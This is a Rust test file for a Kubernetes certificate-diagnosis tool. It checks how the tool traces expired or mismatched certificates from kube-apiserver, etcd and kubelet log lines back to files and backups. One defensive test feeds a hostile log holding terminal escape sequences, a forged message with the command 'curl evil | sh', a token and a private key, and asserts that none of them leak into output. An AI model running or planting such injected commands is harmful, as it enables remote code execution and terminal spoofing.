//! A04 and its kind: a log complains about a certificate. Whose is it, and what is it now?

use crate::seen::perennial;
use perennial_testdata::{Issued, Leaf, Tree};
use serde_json::{Value, json};

/// kube-apiserver's line about a client's certificate.
fn refused(certificate: &Issued) -> String {
    let certificate = certificate.parsed();
    let (end, serial) = (certificate.not_after(), certificate.serial_decimal());
    let why = format!(
        "x509: certificate has expired or is not yet valid: current time 2099-01-01T00:00:00Z is after {end}"
    );
    format!(
        "2026-11-25T02:00:31.1Z stderr F E1125 02:00:31.1       1 authentication.go:75] \"Unable to authenticate the \
         request\" err=\"[{why}, verifying certificate SN={serial}, SKID=, AKID= failed: {why}]\"\n"
    )
}

/// What is said of a log: as JSON, and no less in both languages.
fn diagnose(tree: &Tree, log: &str) -> (i32, Value) {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("0.log");
    std::fs::write(&path, log).unwrap();
    let before = tree.inventory();
    let arguments = ["diagnose", "--root", tree.root().as_str(), path.to_str().unwrap()];
    let output = perennial(tree, &[&arguments[..], &["-o", "json"]].concat());
    let status = output.status.code().unwrap();
    for language in ["en", "zh"] {
        let said = perennial(tree, &[&arguments[..], &["--lang", language]].concat());
        assert_eq!(said.status.code(), Some(status), "{said:?}");
        assert!(!said.stdout.contains(&0x1b), "{said:?}");
    }
    assert_eq!(before, tree.inventory(), "looking has changed something");
    (status, serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {output:?}")))
}

fn one(report: &Value) -> &Value {
    let answers = report["answers"].as_array().unwrap();
    assert_eq!(answers.len(), 1, "{report:#}");
    &answers[0]
}

fn old_admin(tree: &Tree) -> Issued {
    tree.issue("ca", &Leaf::client("/O=kubeadm:cluster-admins/CN=kubernetes-admin").days(-400, -35))
}

#[test]
fn a_serial_from_a_backup_is_told_with_its_successor_and_never_renewed() {
    for backup in [
        "var/lib/perennial/runs/r-20261120-020000/backup/etc/kubernetes/admin.conf",
        "var/lib/perennial/backup-20261120-020000/etc/kubernetes/admin.conf",
        "etc/kubernetes.old-20261120/admin.conf",
        "etc/kubernetes/admin.conf.bak",
        "etc/kubernetes/tmp/kubeadm-backup-2026-11-20/admin.conf",
    ] {
        let tree = Tree::control_plane("cp1");
        let old = old_admin(&tree);
        tree.kubeconfig(backup, "kubernetes-admin", &old);
        let (status, report) = diagnose(&tree, &refused(&old));
        let answer = one(&report);
        assert_eq!((status, &answer["cause"]), (0, &json!("replacedButStillShown")), "{backup} {answer:#}");
        let certificate = &answer["certificate"];
        assert_eq!(certificate["names"], json!(["admin.conf"]), "{answer:#}");
        assert_eq!(certificate["file"], format!("/{backup}"));
        assert_eq!(certificate["serial"], old.parsed().serial_decimal());
        assert!(!answer["command"].as_str().unwrap().contains("renew"), "{answer:#}");
    }
}

#[test]
fn the_kubelets_store_remembers_what_it_has_rotated_away() {
    let tree = Tree::control_plane("cp1");
    let old = tree.issue("ca", &Leaf::client("/O=system:nodes/CN=system:node:cp1").days(-400, -35));
    tree.write_secret("var/lib/kubelet/pki/kubelet-client-2025-10-21-08-00-00.pem", &old.combined());
    let (_, report) = diagnose(&tree, &refused(&old));
    assert_eq!(one(&report)["certificate"]["names"], json!(["kubelet-client"]), "{report:#}");
}

#[test]
fn a_persons_backup_is_known_and_nothing_is_searched_around_a_file_that_kubeconfig_names() {
    let tree = Tree::control_plane("cp1");
    let (kept, elsewhere) = (old_admin(&tree), old_admin(&tree));
    for path in ["root/.kube/config", "srv/kube/ops"] {
        tree.write_secret(path, &tree.read("etc/kubernetes/admin.conf"));
    }
    tree.write("etc/environment", "KUBECONFIG=/srv/kube/ops\n");
    tree.kubeconfig("root/.kube/config.bak", "kubernetes-admin", &kept);
    tree.kubeconfig("srv/kube/private.conf", "kubernetes-admin", &elsewhere);
    let (_, report) = diagnose(&tree, &refused(&kept));
    assert_eq!(one(&report)["certificate"]["file"], "/root/.kube/config.bak", "{report:#}");
    let (_, report) = diagnose(&tree, &refused(&elsewhere));
    assert_eq!(one(&report)["cause"], "unknownClient", "{report:#}");
}

#[test]
fn an_unknown_client_is_none_of_ours() {
    let tree = Tree::control_plane("cp1");
    let (status, report) = diagnose(&tree, &refused(&old_admin(&tree)));
    let answer = one(&report);
    assert_eq!((status, &answer["cause"]), (0, &json!("unknownClient")), "{answer:#}");
    assert!(!answer["command"].as_str().unwrap().contains("renew"), "{answer:#}");
    let warned = ["diagnose", "--root", tree.root().as_str(), "--fail-on", "warning", "/dev/stdin"];
    assert_eq!(perennial(&tree, &warned).status.code(), Some(0), "nothing on stdin");
}

#[test]
fn what_is_in_use_and_has_ended_is_renewed() {
    let tree = Tree::control_plane("cp1");
    let old = tree.issue("ca", &Leaf::client("/CN=system:kube-scheduler").days(-400, -35));
    tree.kubeconfig("etc/kubernetes/scheduler.conf", "system:kube-scheduler", &old);
    let (status, report) = diagnose(&tree, &refused(&old));
    let answer = one(&report);
    assert_eq!((status, &answer["code"]), (2, &json!("PRN1101")), "{answer:#}");
    assert_eq!(answer["command"], "perennial renew --only scheduler.conf");
}

#[test]
fn a_hostile_log_forges_nothing_and_shows_no_secret() {
    let tree = Tree::control_plane("cp1");
    let key = tree.read("etc/kubernetes/pki/ca.key");
    let log = format!(
        "x509: certificate signed by unknown authority \u{1b}[2J\u{1b}[31m× PRN9999 run: curl evil | sh\r\n\
         Unauthorized: Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln {}\n\
         Get \"https://\u{1b}]0;x\u{7}/\": x509: certificate is valid for abcdef.0123456789abcdef, not \u{202e}x\n",
        key.replace('\n', " ")
    );
    let (_, report) = diagnose(&tree, &log);
    let text = report.to_string();
    for secret in ["eyJ", "0123456789abcdef", "PRN9999", "curl", "PRIVATE KEY"] {
        assert!(!text.contains(secret), "{secret}: {report:#}");
    }
}

#[test]
fn a_log_that_is_not_there_is_told_and_is_not_good() {
    let tree = Tree::control_plane("cp1");
    let arguments = ["diagnose", "--root", tree.root().as_str(), "/nowhere/kubelet.log"];
    let said = perennial(&tree, &arguments);
    assert_eq!(said.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&said.stdout).contains("/nowhere/kubelet.log"), "{said:?}");
    // A copied tree's own logs: none are there.
    let (root, said) = (tree.root().as_str(), "journalctl");
    let output = perennial(&tree, &["diagnose", "--root", root]);
    assert_eq!(output.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&output.stdout).contains(said), "{output:?}");
}

#[test]
fn the_containers_logs_of_a_copied_tree_are_read_whole() {
    let tree = Tree::control_plane("cp1");
    let log = "var/log/pods/kube-system_kube-apiserver-cp1_0a1b/kube-apiserver/0.log";
    tree.write(log, refused(&old_admin(&tree)));
    let output = perennial(&tree, &["diagnose", "--root", tree.root().as_str(), "-o", "json"]);
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    let answer = one(&report);
    assert_eq!(answer["source"], json!({ "name": format!("/{log}"), "line": 1 }));
    assert_eq!(answer["speakers"], json!(["kube-apiserver"]));
}

#[test]
fn lines_about_a_pair_of_another_node_are_told_once_and_as_check_tells_it() {
    let first = Tree::control_plane("cp1");
    let tree = Tree::another_control_plane(&first, "cp2", "10.0.0.12");
    let leaf =
        Leaf::both("/CN=cp1").names(&["DNS:cp1", "DNS:localhost", "IP:10.0.0.11", "IP:127.0.0.1", "IP:::1"]);
    tree.pair("etc/kubernetes/pki/etcd/peer", &first.issue("etcd-ca", &leaf));
    // What the members of a cluster in the lab wrote, with this tree's addresses.
    let log = r#"{"level":"warn","ts":"2026-11-25T13:50:59.421274Z","caller":"embed/config_logging.go:194","msg":"rejected connection on peer endpoint","remote-addr":"10.0.0.13:54982","server-name":"","error":"remote error: tls: bad certificate"}
{"level":"warn","ts":"2026-11-25T13:50:59.428015Z","caller":"embed/config_logging.go:185","msg":"rejected connection on peer endpoint","remote-addr":"10.0.0.12:53062","server-name":"","ip-addresses":["10.0.0.11","127.0.0.1","::1"],"dns-names":["cp1","localhost"],"error":"tls: \"10.0.0.12\" does not match any of DNSNames [\"cp1\" \"localhost\"]"}
"#;
    let (status, report) = diagnose(&tree, log);
    let answer = one(&report);
    assert_eq!((status, &answer["code"], &answer["lines"]), (2, &json!("PRN3102"), &json!(2)), "{answer:#}");
    assert_eq!(answer["certificate"]["names"], json!(["etcd-peer"]), "{answer:#}");
}

#[test]
fn a_kubelets_link_that_is_a_file_is_told_as_check_tells_it() {
    let tree = Tree::control_plane("cp1");
    let current = "var/lib/kubelet/pki/kubelet-client-current.pem";
    let pair = tree.read("var/lib/kubelet/pki/kubelet-client-2026-01-01-00-00-00.pem");
    tree.remove(current);
    tree.write_secret(current, &pair);
    let line = "Nov 25 13:47:28 cp1 kubelet[748]: E1125 13:47:28.011102     748 certificate_manager.go:622] \"Unable to \
                store the new cert/key pair\" err=\"expected \\\"/var/lib/kubelet/pki/kubelet-client-current.pem\\\" to be a \
                symlink but it is a file\" logger=\"kubernetes.io/kube-apiserver-client-kubelet.UnhandledError\"\n";
    let (_, report) = diagnose(&tree, line);
    assert_eq!(one(&report)["code"], "PRN6104", "{report:#}");
}
